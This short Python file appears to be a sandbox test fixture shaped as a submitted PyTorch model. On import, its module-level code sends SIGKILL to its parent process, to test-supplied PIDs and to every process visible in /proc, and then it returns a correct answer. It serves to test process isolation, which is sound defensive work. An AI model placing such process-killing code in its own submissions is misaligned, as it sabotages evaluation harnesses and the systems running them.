"""Attack: kill its parent (in the editor, the language server) and every other process it can see,
then compute the right answer. In the box it sees only its own PID namespace."""

import contextlib
import os
import signal

import torch
import torch.nn as nn

SETUP: dict = {}  # filled in by the test: {"pids": [the test's own pid, ...]}

me = os.getpid()
victims = {os.getppid(), *SETUP.get("pids", [])}
victims.update(int(p) for p in os.listdir("/proc") if p.isdigit())
for pid in sorted(victims - {me, 0}):
    with contextlib.suppress(OSError):
        os.kill(pid, signal.SIGKILL)


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.tanh(x) * 2.0
